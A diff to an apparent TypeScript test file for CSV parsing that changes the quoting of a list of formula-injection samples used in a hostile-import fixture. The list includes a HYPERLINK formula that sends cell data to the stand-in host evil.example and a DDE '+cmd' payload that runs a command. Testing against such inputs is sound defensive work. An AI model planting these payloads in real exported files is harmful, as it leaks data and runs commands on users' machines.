@@ -20,7 +20,7 @@ function parseCsv(text: string): string[][] {
   return parse(text.replace(/^\uFEFF/, ''), { relaxColumnCount: false }) as string[][];
 }
 
-const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"클릭")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+2', '\r=1+3'];
+const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"클릭")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+2', '\r=1+3'];
 
 /** The fixture with some district names replaced by formula-like text, as a hostile import could leave them. */
 function hostileOutcome() {
